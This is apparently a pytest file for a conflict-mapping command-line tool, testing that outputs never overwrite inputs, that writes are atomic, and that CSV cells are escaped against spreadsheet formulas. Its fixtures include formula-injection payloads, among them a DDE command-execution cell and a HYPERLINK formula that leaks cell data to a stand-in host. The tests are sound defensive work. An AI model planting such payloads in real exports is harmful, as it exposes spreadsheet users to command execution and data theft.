"""Safe outputs: no output destroys an input, atomic writes, spreadsheet-safe CSV cells.

Everything goes through the command line (``geo.cli.main``) where it can: a refused
output is a usage error (exit 2) with one line on stderr naming the option and the
path, every file already there is byte-identical afterwards and nothing new appears;
a write that fails (disk full, read-only file system) is exit 1 with one line, the old
file intact and no temporary file left.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_imports import acled_row

from geo import _io, schema
from geo._io import check_output, from_spreadsheet_safe, spreadsheet_safe, write_text_atomically
from geo._resources import bundled_dir
from geo.cli import main
from geo.errors import InputError, OutputError
from geo.seeds import Seeds

FORMULAS = ['=HYPERLINK("http://x?leak="&A1)', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]
ARTICLE = "Ménaka, 8 March 2022.\n\nGunmen of the Islamic State killed 12 civilians in Ménaka on 8 March 2022.\n"
ACLED_ROW = acled_row("MLI1", notes="=1+2")  # a formula in the notes


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def snapshot(folder: Path) -> dict[str, bytes | str]:
    """Every entry under ``folder``: file bytes, or where a link points."""
    found: dict[str, bytes | str] = {}
    for path in sorted(folder.rglob("*")):
        key = str(path.relative_to(folder))
        if path.is_symlink():
            found[key] = "-> " + os.readlink(path)
        elif path.is_file():
            found[key] = path.read_bytes()
        else:
            found[key] = "<dir>"
    return found


def write_acled(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(schema.ACLED_EXPORT_COLUMNS))
        writer.writeheader()
        for row in rows:
            writer.writerow({column: row.get(column, "") for column in schema.ACLED_EXPORT_COLUMNS})
    return path


@pytest.fixture
def files(tmp_path: Path) -> Path:
    """A work folder: an article, an ACLED export, an incidents file, a file and a folder."""
    (tmp_path / "article.txt").write_text(ARTICLE, encoding="utf-8")
    write_acled(tmp_path / "acled.csv", [ACLED_ROW])
    shutil.copy(bundled_dir("seeds") / "incidents.csv", tmp_path / "incidents.csv")
    (tmp_path / "plain.txt").write_text("not a folder\n", encoding="utf-8")
    (tmp_path / "folder").mkdir()
    return tmp_path


@pytest.fixture
def seeds_copy(tmp_path: Path) -> Path:
    folder = tmp_path / "seeds"
    shutil.copytree(bundled_dir("seeds"), folder, ignore=shutil.ignore_patterns("*.md", "__pycache__"))
    return folder


# --- refusals before any work ---------------------------------------------------------------

REFUSALS = {
    # name: (arguments, with {d} the work folder; the option named; the path named)
    "import --out is the export": (["import", "acled", "{d}/acled.csv", "--out", "{d}/acled.csv"], "--out"),
    "import --report is --out": (
        ["import", "acled", "{d}/acled.csv", "--out", "{d}/new.csv", "--report", "{d}/new.csv"],
        "--report",
    ),
    "import --out through a link to the export": (
        ["import", "acled", "{d}/acled.csv", "--out", "{d}/link.csv"],
        "--out",
    ),
    "map --out is --incidents": (["map", "--incidents", "{d}/incidents.csv", "--out", "{d}/incidents.csv"], "--out"),
    "extract --html is the article": (["extract", "{d}/article.txt", "--html", "{d}/article.txt"], "--html"),
    "extract --candidates is the article": (
        ["extract", "{d}/article.txt", "--candidates", "{d}/article.txt"],
        "--candidates",
    ),
    "extract --html is --candidates": (
        ["extract", "{d}/article.txt", "--candidates", "{d}/c.csv", "--html", "{d}/c.csv"],
        "--html",
    ),
    "snapshot --out is a folder": (["snapshot", "--at", "2023-04", "--out", "{d}/folder"], "--out"),
    "report --out missing folders": (["report", "--out", "{d}/no/such/r.html"], "--out"),
    "chart --out under a file": (["chart", "isgs", "--out", "{d}/plain.txt/c.png"], "--out"),
    "map --out in /proc": (["map", "--out", "/proc/x.html"], "--out"),
    "extract --html empty": (["extract", "{d}/article.txt", "--html", ""], "--html"),
    "import --out empty": (["import", "acled", "{d}/acled.csv", "--out", ""], "--out"),
    "export --out empty": (["export", "--out", ""], "--out"),
    "export --out a file": (["export", "--layers", "places", "--out", "{d}/plain.txt"], "--out"),
    "export --out the records folder": (["export", "--seeds", "{d}/seeds", "--out", "{d}/seeds"], "--out"),
    "export --out contains the records folder": (
        ["export", "--seeds", "{d}/seeds", "--layers", "incidents", "--out", "{d}"],
        "--out",
    ),
}


@pytest.mark.parametrize("case", list(REFUSALS))
def test_refused_outputs(case, files, seeds_copy, capsys):
    (files / "link.csv").symlink_to(files / "acled.csv")
    argv, option = REFUSALS[case]
    argv = [a.replace("{d}", str(files)) for a in argv]
    shown = argv[argv.index(option) + 1]
    before = snapshot(files)
    code, _, err = run(capsys, *argv)
    assert code == 2, err
    assert err.count("\n") == 1, err  # one line
    assert "Traceback" not in err
    assert f"{option} {shown}" in err or (shown == "" and f"{option}: the path is empty" in err)
    assert snapshot(files) == before  # inputs byte-identical, no partial output


def test_export_into_the_bundled_records_folder_is_refused(capsys):
    seeds = bundled_dir("seeds")
    before = snapshot(seeds)
    code, _, err = run(capsys, "export", "--layers", "incidents", "--format", "csv", "--out", str(seeds))
    assert code == 2
    assert f"--out {seeds} is the records folder" in err
    assert snapshot(seeds) == before


def test_export_file_reached_through_a_link_is_refused(files, seeds_copy, capsys):
    """A records file that is a link into the output folder would be replaced by the export."""
    elsewhere = files / "elsewhere"
    elsewhere.mkdir()
    (seeds_copy / "incidents.csv").rename(elsewhere / "incidents.csv")
    (seeds_copy / "incidents.csv").symlink_to(elsewhere / "incidents.csv")
    before = snapshot(files)
    argv = ["export", "--seeds", str(seeds_copy), "--layers", "incidents", "--format", "csv", "--out", str(elsewhere)]
    code, _, err = run(capsys, *argv)
    assert code == 2, err
    assert "is the input records file" in err
    assert snapshot(files) == before


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes in read-only folders")
def test_read_only_folder_is_refused(files, capsys):
    locked = files / "locked"
    locked.mkdir()
    locked.chmod(0o555)
    try:
        code, _, err = run(capsys, "extract", str(files / "article.txt"), "--html", str(locked / "r.html"))
    finally:
        locked.chmod(0o755)
    assert code == 2
    assert f"--html {locked / 'r.html'}: cannot create a file in {locked}" in err


def test_one_missing_folder_is_created(files, capsys):
    """``--out my-seeds/incidents.csv`` (the README's import) creates the one missing folder."""
    out = files / "my-seeds" / "incidents.csv"
    code, _, err = run(capsys, "import", "acled", str(files / "acled.csv"), "--out", str(out))
    assert code == 0, err
    assert out.is_file()


def test_check_output_from_python(tmp_path):
    (tmp_path / "in.csv").write_text("x\n")
    with pytest.raises(InputError, match=r"^--out .*in\.csv is the input data .*in\.csv"):
        check_output(tmp_path / "in.csv", option="--out", inputs=[("data", tmp_path / "in.csv")])
    (tmp_path / "hard.csv").hardlink_to(tmp_path / "in.csv")
    with pytest.raises(InputError, match="is the input"):
        check_output(tmp_path / "hard.csv", option="--out", inputs=[tmp_path / "in.csv"])
    assert check_output(None, option="--report") is None
    assert check_output(str(tmp_path / "new" / "x.csv"), option="--out") == tmp_path / "new" / "x.csv"


# --- failures while writing ------------------------------------------------------------------


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EROFS])
def test_write_failure_keeps_the_old_file(code, files, monkeypatch, capsys):
    old = files / "review.html"
    old.write_text("the old page\n", encoding="utf-8")

    def fail(fd):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(_io.os, "fsync", fail)
    status, _, err = run(capsys, "extract", str(files / "article.txt"), "--quiet", "--html", str(old))
    assert status == 1
    lines = [line for line in err.splitlines() if "error" in line]
    assert lines == [f"geo extract: error: cannot write {old}: {os.strerror(code)}"]
    assert "Traceback" not in err
    assert old.read_text(encoding="utf-8") == "the old page\n"
    assert sorted(p.name for p in files.iterdir() if p.name.startswith(".")) == []


def test_gpkg_failure_leaves_no_temporary_file(files, monkeypatch, capsys):
    import geo.export

    out = files / "qgis"
    out.mkdir()
    (out / "atlas.gpkg").write_bytes(b"old atlas")
    real = geo.export.write_gpkg_layer

    def fail(frame, path, layer):
        real(frame, path, layer)  # the temporary GeoPackage exists, with a table, when the disk fills
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(geo.export, "write_gpkg_layer", fail)
    code, _, err = run(capsys, "export", "--format", "gpkg", "--layers", "places", "--out", str(out))
    assert code == 1
    assert f"cannot write {out / 'atlas.gpkg'}: No space left on device" in err
    assert sorted(p.name for p in out.iterdir()) == ["atlas.gpkg"]
    assert (out / "atlas.gpkg").read_bytes() == b"old atlas"


def test_output_error_from_python(tmp_path, monkeypatch):
    def fail(handle):
        raise OSError(errno.ENOSPC, "No space left on device")

    with pytest.raises(OutputError, match=r"^cannot write .*x\.csv: No space left on device$") as caught:
        _io.write_atomically(tmp_path / "x.csv", fail)
    assert caught.value.errno == errno.ENOSPC
    assert list(tmp_path.iterdir()) == []


# --- temporary files: O_EXCL -------------------------------------------------------------------


def test_temporary_name_planted_in_advance_is_not_followed(tmp_path, monkeypatch):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "out"
    out.mkdir()
    names = iter(["guess", "planted", "fresh"])
    monkeypatch.setattr(tempfile, "_get_candidate_names", lambda: names)
    (out / ".x.html.guess.tmp").symlink_to(victim)  # a link at the name tried first
    (out / ".x.html.planted.tmp").write_text("someone else's\n")  # a file at the second
    write_text_atomically(out / "x.html", "<p>new</p>")
    assert victim.read_text() == "precious\n"
    assert os.readlink(out / ".x.html.guess.tmp") == str(victim)
    assert (out / ".x.html.planted.tmp").read_text() == "someone else's\n"
    assert (out / "x.html").read_text() == "<p>new</p>"
    assert not (out / ".x.html.fresh.tmp").exists()


def test_written_files_get_the_usual_mode(tmp_path):
    mask = os.umask(0o022)
    os.umask(mask)
    path = write_text_atomically(tmp_path / "page.html", "x")
    assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~mask
    path.chmod(0o640)
    write_text_atomically(path, "y")
    assert stat.S_IMODE(path.stat().st_mode) == 0o640


def test_output_that_is_a_link_is_replaced_not_followed(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (tmp_path / "out.html").symlink_to(victim)
    write_text_atomically(tmp_path / "out.html", "new")
    assert victim.read_text() == "precious\n"
    assert not (tmp_path / "out.html").is_symlink()


# --- spreadsheet formulas --------------------------------------------------------------------


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_prefixed(cell):
    assert spreadsheet_safe(cell) == "'" + cell
    assert from_spreadsheet_safe(spreadsheet_safe(cell)) == cell


@pytest.mark.parametrize("cell", ["-3.5", "+12", "-1e-5", "12", "Ménaka", "", "a=b", " =1"])
def test_numbers_and_plain_text_are_kept(cell):
    assert spreadsheet_safe(cell) == cell


@pytest.mark.parametrize("value", [-3, -3.5, None, 0])
def test_values_that_are_not_text_are_kept(value):
    assert spreadsheet_safe(value) is value


@given(st.text())
def test_reading_undoes_writing(text):
    safe = spreadsheet_safe(text)
    assert from_spreadsheet_safe(safe) == text
    assert safe == text or safe == "'" + text
    if safe[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert _io._NUMBER.fullmatch(safe)


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_geocode_csv(capsys):
    query = "=cmd|' /C calc'!A0"
    _, out, _ = run(capsys, "geocode", query, "--csv")
    assert csv_rows(out)[0]["query"] == "'" + query
    _, out, _ = run(capsys, "geocode", query, "--csv", "--raw")
    assert csv_rows(out)[0]["query"] == query


def test_places_csv(tmp_path, capsys):
    from conftest import TINY_PLACES, write_places

    rows = [dict(TINY_PLACES[0], name='=HYPERLINK("http://x?leak="&A1)', variants="-Alfa")]
    write_places(tmp_path / "gaz" / "places.csv", rows)
    code, out, err = run(capsys, "places", "--gazetteer", str(tmp_path / "gaz"), "--csv")
    assert code == 0, err
    row = csv_rows(out)[0]
    assert row["name"] == "'" + rows[0]["name"]
    assert row["lon"] == "1.0"
    code, out, _ = run(capsys, "places", "--gazetteer", str(tmp_path / "gaz"), "--csv", "--raw")
    assert csv_rows(out)[0]["name"] == rows[0]["name"]


def test_stats_csv(monkeypatch, capsys):
    import geo.stats

    real = geo.stats.intensity

    def hostile(*args, **kwargs):
        result = real(*args, **kwargs)
        placements = result.placements
        placements.loc[placements["reason"].notna(), "detail"] = "@SUM(A1)"
        return result

    monkeypatch.setattr(geo.stats, "intensity", hostile)
    code, out, _ = run(capsys, "stats", "--unplaced", "--csv", "--from", "2012", "--to", "2013")
    assert code == 0
    assert {row["detail"] for row in csv_rows(out)} == {"'@SUM(A1)"}
    code, out, _ = run(capsys, "stats", "--unplaced", "--csv", "--raw", "--from", "2012", "--to", "2013")
    assert {row["detail"] for row in csv_rows(out)} == {"@SUM(A1)"}


def test_export_csv(seeds_copy, tmp_path, capsys):
    path = seeds_copy / "incidents.csv"
    rows = csv_rows(path.read_text(encoding="utf-8"))
    rows[0]["note"] = '=HYPERLINK("http://x?leak="&A1)'
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    args = ["export", "--seeds", str(seeds_copy), "--format", "csv", "--layers", "incidents"]
    assert main([*args, "--out", str(tmp_path / "safe")]) == 0
    assert main([*args, "--raw", "--out", str(tmp_path / "raw")]) == 0
    safe = {r["id"]: r for r in csv_rows((tmp_path / "safe" / "incidents.csv").read_text(encoding="utf-8"))}
    raw = {r["id"]: r for r in csv_rows((tmp_path / "raw" / "incidents.csv").read_text(encoding="utf-8"))}
    first = rows[0]["id"]
    assert safe[first]["note"] == "'" + rows[0]["note"]
    assert raw[first]["note"] == rows[0]["note"]
    assert any(r["lon"].startswith("-") for r in safe.values())  # numbers stay numbers
    capsys.readouterr()


def test_extract_candidates_round_trip(files, capsys):
    article = files / "article.txt"
    article.write_text(ARTICLE.replace("Gunmen", '=HYPERLINK("http://x?leak="&A1) Gunmen'), encoding="utf-8")
    out = files / "candidates.csv"
    code, _, err = run(capsys, "extract", str(article), "--quiet", "--candidates", str(out))
    assert code == 0, err
    (row,) = csv_rows(out.read_text(encoding="utf-8"))
    assert row["evidence"].startswith("'=HYPERLINK(")


def test_import_then_validate_keeps_the_note_exactly(files, capsys):
    folder = files / "mine"
    code, _, err = run(capsys, "import", "acled", str(files / "acled.csv"), "--out", str(folder / "incidents.csv"))
    assert code == 0, err
    written = csv_rows((folder / "incidents.csv").read_text(encoding="utf-8"))
    assert written[0]["note"].startswith("'=1+2")
    assert written[0]["longitude"] == "2.4022"
    note = Seeds.load(folder).incidents.rows[0]["note"]
    assert note.startswith("=1+2")
    code, _, err = run(capsys, "validate", "--seeds", str(folder))
    assert code == 0, err


# --- GeoPackage: a partial export never shrinks atlas.gpkg ----------------------------------------


def test_partial_gpkg_export_updates_its_layers_only(tmp_path, capsys):
    import pyogrio

    out = tmp_path / "qgis"
    assert main(["export", "--format", "gpkg", "--layers", "places,areas", "--out", str(out)]) == 0
    gpkg = out / "atlas.gpkg"
    areas = pyogrio.read_info(gpkg, layer="areas")["features"]
    assert main(["export", "--format", "gpkg", "--layers", "places", "--out", str(out)]) == 0
    assert sorted(name for name, _ in pyogrio.list_layers(gpkg)) == ["areas", "places"]
    assert pyogrio.read_info(gpkg, layer="areas")["features"] == areas
    assert sorted(p.name for p in out.iterdir()) == ["atlas.gpkg"]
    capsys.readouterr()


# --- records folders: exact names -------------------------------------------------------------


def test_records_file_under_another_case(seeds_copy, capsys):
    (seeds_copy / "incidents.csv").rename(seeds_copy / "Incidents.csv")
    code, _, err = run(capsys, "validate", "--seeds", str(seeds_copy))
    assert code == 1
    assert "found Incidents.csv: rename it to incidents.csv" in err
    assert "0 incidents" not in err and "Traceback" not in err


@pytest.mark.parametrize(
    ("make", "expected"),
    [
        (lambda p: p.symlink_to(p.parent / "gone.csv"), "is a link to {d}/gone.csv, which does not exist"),
        (lambda p: p.symlink_to(p), "is a link to {d}/incidents.csv that loops back on itself"),
        (lambda p: p.mkdir(), "is a folder, not a CSV file"),
    ],
    ids=["dangling link", "link loop", "folder"],
)
def test_records_file_that_cannot_be_read(make, expected, seeds_copy, capsys):
    path = seeds_copy / "incidents.csv"
    path.unlink()
    make(path)
    code, _, err = run(capsys, "validate", "--seeds", str(seeds_copy))
    assert code == 1
    assert f"{path}: {expected.format(d=seeds_copy)}" in err
    assert err.count("\n") == 1 and "Traceback" not in err


def test_records_folder_that_is_a_dangling_link(tmp_path, capsys):
    (tmp_path / "seeds").symlink_to(tmp_path / "nowhere")
    code, _, err = run(capsys, "validate", "--seeds", str(tmp_path / "seeds"))
    assert code != 0
    assert f"is a link to {tmp_path / 'nowhere'}, which does not exist" in err


# --- locale --------------------------------------------------------------------------------------


def _has_locale(name: str) -> bool:
    try:
        listed = subprocess.run(["locale", "-a"], capture_output=True, text=True, check=False).stdout
    except OSError:
        return False
    wanted = name.lower().replace("-", "")
    return any(line.strip().lower().replace("-", "") == wanted for line in listed.splitlines())


@pytest.mark.skipif(not _has_locale("tr_TR.UTF-8"), reason="the tr_TR.UTF-8 locale is not installed (locale -a)")
def test_csv_wkt_under_a_turkish_locale(tmp_path):
    """GEOS capitalises WKT keywords with the C library's toupper: ``MULTiPOLYGON`` under tr_TR."""
    script = """
import sys, geopandas, shapely
from geo.export import write_csv
shapes = [shapely.MultiPolygon([shapely.box(0, 0, 1, 1)]), shapely.LineString([(0, 0), (1, 1)])]
shapes.append(shapely.box(0, 0, 2, 2))
write_csv(geopandas.GeoDataFrame({"name": ["a", "b", "c"]}, geometry=shapes), sys.argv[1])
"""
    env = {**os.environ, "LC_ALL": "tr_TR.UTF-8", "LANG": "tr_TR.UTF-8"}
    out = tmp_path / "shapes.csv"
    subprocess.run([sys.executable, "-c", script, str(out)], env=env, check=True, capture_output=True)
    text = out.read_text(encoding="utf-8")
    assert "MULTIPOLYGON" in text and "LINESTRING" in text
    import shapely

    for row in csv_rows(text):
        assert shapely.from_wkt(row["wkt"]).is_valid
